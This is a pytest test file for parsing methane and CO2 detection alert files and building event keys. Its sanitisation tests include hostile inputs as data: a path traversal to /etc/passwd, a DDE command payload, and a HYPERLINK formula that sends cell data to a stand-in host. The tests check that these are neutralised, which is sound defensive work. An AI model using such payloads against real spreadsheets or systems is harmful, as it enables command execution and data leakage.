"""Event keys and operator alert files."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta

import numpy as np
import pytest

from attribution_assets.events import (
    AlertFormatError,
    DetectionEvent,
    event_key,
    is_event_key,
    iso_week,
    parse_event_key,
    parse_iso_week,
    read_alerts,
    record_events,
    registered_events,
    sanitize_event_id,
)


def _random_events(n: int, seed: int = 1) -> list[DetectionEvent]:
    rng = np.random.default_rng(seed)
    start = datetime(2019, 1, 1, tzinfo=UTC)
    return [
        DetectionEvent(
            time=start + timedelta(seconds=int(rng.integers(0, 8 * 365 * 86400))),
            longitude=float(rng.uniform(-180, 180)),
            latitude=float(rng.uniform(-90, 90)),
            gas=str(rng.choice(["CH4", "CO2"])),
        )
        for _ in range(n)
    ]


def test_known_key():
    event = DetectionEvent(datetime(2025, 8, 14, 17, 31, tzinfo=UTC), -103.61, 31.9095, "CH4")
    assert event_key(event) == "CH4_20250814T173100Z_31.9095N_103.6100W"


@pytest.mark.parametrize("event", _random_events(300))
def test_codec_round_trip(event: DetectionEvent):
    key = event_key(event)
    assert is_event_key(key)
    assert not any(bad in key for bad in (",", "|", "/", "...", " "))
    assert parse_event_key(key) == event
    assert event_key(parse_event_key(key)) == key


def test_key_is_deterministic_under_rounding():
    a = DetectionEvent(datetime(2025, 1, 2, 3, 4, 5, 900, tzinfo=UTC), 10.000049, -5.000049)
    b = DetectionEvent(datetime(2025, 1, 2, 3, 4, 5, tzinfo=UTC), 10.0, -5.0)
    assert a.key == b.key == "CH4_20250102T030405Z_5.0000S_10.0000E"


def test_time_zone_is_normalised_to_utc():
    from zoneinfo import ZoneInfo

    local = datetime(2025, 6, 10, 14, 10, tzinfo=ZoneInfo("Europe/Warsaw"))
    assert DetectionEvent(local, 19.3308, 51.266, "CO2").key.startswith("CO2_20250610T121000Z")


@pytest.mark.parametrize("bad", [
    "", "CH4_20250814T173100Z_31.9095N", "N2O_20250814T173100Z_31.9095N_103.6100W",
    "CH4_20250814T1731Z_31.9095N_103.6100W", "CH4_20250814T173100Z_31.95N_103.6100W",
    "CH4_20250814T173100Z_31.9095N_103.6100W/x", "CH4,20250814T173100Z_31.9095N_103.6100W",
])
def test_invalid_keys_are_rejected(bad: str):
    assert not is_event_key(bad)
    with pytest.raises(AlertFormatError, match="not an event key"):
        parse_event_key(bad)


def test_invalid_events_are_rejected():
    with pytest.raises(AlertFormatError, match="latitude"):
        DetectionEvent(datetime(2025, 1, 1, tzinfo=UTC), 0.0, 91.0)
    with pytest.raises(AlertFormatError, match="time zone"):
        DetectionEvent(datetime(2025, 1, 1), 0.0, 0.0)
    with pytest.raises(AlertFormatError, match="gas"):
        DetectionEvent(datetime(2025, 1, 1, tzinfo=UTC), 0.0, 0.0, "N2O")


def test_iso_week_round_trip():
    assert iso_week(datetime(2025, 8, 14, tzinfo=UTC)) == "2025-W33"
    assert iso_week(datetime(2024, 12, 30, tzinfo=UTC)) == "2025-W01"
    start, end = parse_iso_week("2025-W33")
    assert start == datetime(2025, 8, 11, tzinfo=UTC) and end == datetime(2025, 8, 18, tzinfo=UTC)
    with pytest.raises(AlertFormatError):
        parse_iso_week("2025-33")


def test_read_alerts_csv_and_geojson(tmp_path):
    csv = tmp_path / "alerts.csv"
    csv.write_text("event_id,event_time,latitude,longitude,gas\n"
                   "a,2025-08-14T17:31:00Z,31.9095,-103.61,CH4\n"
                   "b,2025-06-10T12:10:00+00:00,51.266,19.3308,co2\n"
                   "c,2025-09-03T07:40:00Z,38.495,54.195,\n")
    events = read_alerts(csv)
    assert [e.gas for e in events] == ["CH4", "CO2", "CH4"]
    assert events[0].event_id == "a" and events[0].key == "CH4_20250814T173100Z_31.9095N_103.6100W"
    geojson = tmp_path / "alerts.geojson"
    geojson.write_text(json.dumps({"type": "FeatureCollection", "features": [
        {"type": "Feature", "geometry": {"type": "Point", "coordinates": [-103.61, 31.9095]},
         "properties": {"event_time": "2025-08-14T17:31:00Z"}}]}))
    assert read_alerts(geojson)[0].key == events[0].key


@pytest.mark.parametrize("row, message", [
    ("2025-08-14T17:31:00Z,,-103.61", "row 2: missing latitude"),
    ("2025-08-14T17:31:00,31.9,-103.61", "row 2: event_time .* no time zone"),
    ("yesterday,31.9,-103.61", "row 2: event_time 'yesterday' is not ISO 8601"),
    # a free-form parser read these as 4 March and 14 August: month first, then day first
    ("03/04/2025 12:00Z,31.9,-103.61", "row 2: event_time '03/04/2025 12:00Z' is not ISO 8601"),
    ("14/08/2025 17:31Z,31.9,-103.61", "row 2: event_time '14/08/2025 17:31Z' is not ISO 8601"),
    ("2025-08-14 5pm Z,31.9,-103.61", "row 2: event_time .* is not ISO 8601"),
    ("2025-08-14,31.9,-103.61", "row 2: event_time '2025-08-14' has no time zone"),
    ("2025-08-14T17:31:00Z,131.9,-103.61", "row 2: latitude 131.9"),
])
def test_bad_alert_rows_name_file_and_row(tmp_path, row: str, message: str):
    path = tmp_path / "bad.csv"
    path.write_text("event_time,latitude,longitude\n" + row + "\n")
    with pytest.raises(AlertFormatError, match=message) as info:
        read_alerts(path)
    assert str(path) in str(info.value)


# --- the bad-alert-file corpus: every file raises only AlertFormatError naming the file --------------

HEADER = "event_id,event_time,latitude,longitude,gas\n"
GOOD_ROW = "a,2025-08-14T17:31:00Z,31.9095,-103.61,CH4\n"
POINT_FEATURE = {"type": "Feature", "geometry": {"type": "Point", "coordinates": [-103.61, 31.9095]},
                 "properties": {"event_time": "2025-08-14T17:31:00Z"}}


def _collection(features: object) -> bytes:
    return json.dumps({"type": "FeatureCollection", "features": features}).encode()


BAD_ALERT_FILES = {
    "empty.csv": (b"", "empty file"),
    "empty.geojson": (b"", "empty file"),
    "blank_lines.csv": (b"\n \n\n", "empty file; expected a header row"),
    "binary.csv": (bytes(range(256)) * 4, "not UTF-8 text"),
    "nul.csv": (b"event_time,latitude,longitude\n2025-08-14T17:31:00Z\x00,1,2\n", "row 2: binary content"),
    "nul_header.csv": (b"\x00\x00\x00\x00", "binary content"),
    "binary.geojson": (bytes(range(256)) * 4, "not a GeoJSON FeatureCollection"),
    "header_only.csv": (HEADER.encode(), "header only, no alert rows"),
    "header_and_blank_rows.csv": ((HEADER + ",,,,\n\n").encode(), "header only, no alert rows"),
    "no_latitude_column.csv": (b"event_time,lat,longitude\n2025-08-14T17:31:00Z,1,2\n", "no column latitude"),
    "repeated_column.csv": (b"event_time,latitude,longitude,latitude\nx,1,2,3\n", "repeats a column"),
    "extra_field.csv": ((HEADER + GOOD_ROW + "b,2025-08-14T17:31:00Z,1,2,CH4,oops\n").encode(),
                        "row 3: 6 fields, the header has 5"),
    "unterminated_quote.csv": ((HEADER + 'a,"2025-08-14T17:31:00Z,1,2,CH4\n').encode(), "row 2"),
    "huge_field.csv": ((HEADER + "a" * 200_000 + ",x,1,2,CH4\n").encode(), "malformed CSV"),
    "not_json.geojson": (b"event_time,latitude\n", "not a GeoJSON FeatureCollection"),
    "top_level_list.geojson": (b"[1, 2]", "no 'features' member"),
    "features_object.geojson": (_collection({"0": POINT_FEATURE}), "'features' is a dict, expected a list"),
    "features_string.geojson": (_collection("none"), "'features' is a str, expected a list"),
    "no_features.geojson": (_collection([]), "no alerts"),
    "feature_not_object.geojson": (_collection([3]), "feature 0: not a GeoJSON Feature object"),
    "point_no_coordinates.geojson": (
        _collection([{**POINT_FEATURE, "geometry": {"type": "Point"}}]),
        "feature 0: Point geometry has no",
    ),
    "point_one_coordinate.geojson": (
        _collection([{**POINT_FEATURE, "geometry": {"type": "Point", "coordinates": [5.0]}}]),
        "feature 0: Point geometry has no",
    ),
    "point_text_coordinates.geojson": (
        _collection([{**POINT_FEATURE, "geometry": {"type": "Point", "coordinates": ["x", "y"]}}]),
        "feature 0: longitude 'x' is not a number",
    ),
    "boolean_latitude.geojson": (
        _collection([{"properties": {"event_time": "2025-08-14T17:31:00Z", "latitude": True,
                                     "longitude": 3}}]),
        "feature 0: latitude True is not a number",
    ),
    "list_event_id.geojson": (
        _collection([{**POINT_FEATURE, "properties": {**POINT_FEATURE["properties"], "event_id": [1]}}]),
        r"feature 0: event_id \[1\] is not a text",
    ),
    "properties_list.geojson": (_collection([{"properties": [1, 2]}]), "must be objects"),
    "huge_integer.geojson": (
        _collection([{"properties": {"event_time": "2025-08-14T17:31:00Z", "latitude": 10**400,
                                     "longitude": 3}}]),
        "feature 0: latitude",
    ),
    "deep_nesting.geojson": (b"[" * 100_000 + b"]" * 100_000, "not a GeoJSON FeatureCollection"),
    "nan_latitude.csv": ((HEADER + "a,2025-08-14T17:31:00Z,nan,1,CH4\n").encode(), "row 2: latitude nan"),
    "nat_time.csv": ((HEADER + "a,NaT,1,1,CH4\n").encode(), "row 2: event_time 'NaT' is not ISO 8601"),
    "year_1700.csv": ((HEADER + "a,1700-01-01T00:00:00Z,1,1,CH4\n").encode(), "row 2: .*outside the years"),
    "long_time.csv": ((HEADER + "a," + "9" * 5000 + ",1,1,CH4\n").encode(), r"row 2: event_time '9+\.\.\."),
}


@pytest.mark.parametrize("name", sorted(BAD_ALERT_FILES))
def test_bad_alert_files_raise_only_alert_format_error_naming_the_file(tmp_path, name: str):
    content, message = BAD_ALERT_FILES[name]
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(AlertFormatError, match=message) as info:
        read_alerts(path)
    assert str(info.value).startswith(str(path))
    assert len(str(info.value)) < 400  # a long bad value is shown cut, not pasted whole


def test_missing_and_unreadable_files_are_alert_format_errors(tmp_path):
    with pytest.raises(AlertFormatError, match="not found"):
        read_alerts(tmp_path / "nowhere.csv")
    with pytest.raises(AlertFormatError, match="not found"):
        read_alerts(tmp_path)  # a folder


def test_blank_rows_bom_and_column_case_are_tolerated(tmp_path):
    path = tmp_path / "excel.csv"
    path.write_bytes(("\ufeff" + HEADER.upper().replace("GAS", "Gas") + "\n" + GOOD_ROW + ",,,,\n").encode())
    (event,) = read_alerts(path)
    assert event.key == "CH4_20250814T173100Z_31.9095N_103.6100W" and event.event_id == "a"


def _compact_rows(n: int) -> str:
    return "event_time,latitude,longitude\n" + "2025-08-14T17:31:00Z,1,2\n" * n


def test_a_million_row_file_is_refused_quickly_with_bounded_memory(tmp_path):
    import time
    import tracemalloc

    path = tmp_path / "million.csv"
    path.write_text(_compact_rows(1_000_000))  # 25 MB: under the byte limit, over the row limit
    tracemalloc.start()
    started = time.perf_counter()
    with pytest.raises(AlertFormatError, match=f"{path}: more than 10000 alerts.*ATTRIBUTION_MAX_ALERT_ROWS"):
        read_alerts(path)
    seconds = time.perf_counter() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert seconds < 2.0 and peak < 20 * 1024**2  # reads 10,001 rows of the 1,000,000, never the file


def test_a_wide_million_row_file_is_refused_by_size_before_reading(tmp_path):
    path = tmp_path / "million_wide.csv"
    path.write_text(HEADER + "".join(f"evt-{i:07d},2025-08-14T17:31:00Z,31.9095,-103.61,CH4\n"
                                     for i in range(1_000_000)))
    with pytest.raises(AlertFormatError, match=f"{path}: .* MiB is over the 32 MiB limit"):
        read_alerts(path)


def test_the_row_limit_is_configurable(tmp_path, monkeypatch):
    path = tmp_path / "three.csv"
    path.write_text(_compact_rows(3))
    assert len(read_alerts(path)) == 3
    with pytest.raises(AlertFormatError, match="more than 2 alerts"):
        read_alerts(path, max_rows=2)
    monkeypatch.setenv("ATTRIBUTION_MAX_ALERT_ROWS", "2")
    with pytest.raises(AlertFormatError, match="more than 2 alerts"):
        read_alerts(path)
    geojson = tmp_path / "three.geojson"
    geojson.write_bytes(_collection([POINT_FEATURE] * 3))
    with pytest.raises(AlertFormatError, match="more than 2 alerts"):
        read_alerts(geojson)
    monkeypatch.setenv("ATTRIBUTION_MAX_ALERT_ROWS", "many")
    with pytest.raises(ValueError, match="ATTRIBUTION_MAX_ALERT_ROWS='many' is not a positive integer"):
        read_alerts(path)


# --- operator event ids: sanitised on read, formula-safe in every CSV ----------------------------------

@pytest.mark.parametrize("raw, expected", [
    ("permian-ch4", "permian-ch4"),
    ("../../etc/passwd", ".._.._etc_passwd"),
    ("a\\b/c", "a_b_c"),
    ("line\r\nbreak\ttab", "line break tab"),
    ("nul\x00bell\x07esc\x1b[31m", "nulbellesc[31m"),
    ("bidi\u202egpj.exe", "bidigpj.exe"),
    ('=HYPERLINK("http://x.example/?q="&A1,"click")', '\'=HYPERLINK("http:__x.example_?q="&A1,"click")'),
    ("+1+2", "'+1+2"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'=1+1"),
    ("\r=1+1", "'=1+1"),
    ("-42", "-42"),
    ("x" * 500, "x" * 64),
    ("=" + "y" * 500, "'=" + "y" * 62),
    (" \t\r\n ", None),
    ("\x00\x01", None),
])
def test_event_ids_are_sanitised_on_read(tmp_path, raw: str, expected: str | None):
    path = tmp_path / "ids.geojson"  # GeoJSON carries any text, control characters included
    path.write_bytes(_collection([{**POINT_FEATURE, "properties": {**POINT_FEATURE["properties"],
                                                                   "event_id": raw}}]))
    (event,) = read_alerts(path)
    assert event.event_id == expected
    assert sanitize_event_id(raw) == expected


CRAFTED_IDS = ['=HYPERLINK("http://x.example","click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1)",
               "\t=1", "\r=1", "a/b\\c", "ctrl\x1b\x07", "z" * 300]


def _is_formula(cell: str) -> bool:
    """Whether a spreadsheet would evaluate ``cell`` as a formula (a plain number is data)."""
    if not cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def test_registry_round_trips_crafted_ids_and_is_formula_safe(tmp_path):
    import csv as csv_module

    base = datetime(2025, 8, 14, 17, 31, tzinfo=UTC)
    events = [DetectionEvent(base + timedelta(minutes=i), -103.61, 31.9 + i / 100, "CH4", raw)
              for i, raw in enumerate(CRAFTED_IDS)]
    registry = tmp_path / "events" / "registry.csv"
    record_events(registry, events)
    back = {e.key: e.event_id for e in registered_events(registry)}
    assert back == {e.key: sanitize_event_id(raw) for e, raw in zip(events, CRAFTED_IDS, strict=True)}
    cells = [cell for row in csv_module.reader(registry.open(newline="")) for cell in row]
    assert [c for c in cells if _is_formula(c)] == []
    assert "'=HYPERLINK(\"http:__x.example\",\"click\")" in cells
    assert all(len(c) <= 64 for c in cells)
    assert not [p for p in registry.parent.iterdir() if p.name.endswith(".part")]


def test_registry_upsert_keeps_the_latest_id_per_key(tmp_path):
    registry = tmp_path / "registry.csv"
    event = DetectionEvent(datetime(2025, 8, 14, 17, 31, tzinfo=UTC), -103.61, 31.9095, "CH4", "first")
    record_events(registry, [event])
    record_events(registry, [DetectionEvent(event.time, event.longitude, event.latitude, "CH4", "second")])
    (only,) = registered_events(registry)
    assert only == event and only.event_id == "second"
    assert registered_events(tmp_path / "missing.csv") == []


def test_keys_with_impossible_dates_are_alert_format_errors():
    with pytest.raises(AlertFormatError, match="not an event key"):
        parse_event_key("CH4_20251399T000000Z_31.9095N_103.6100W")
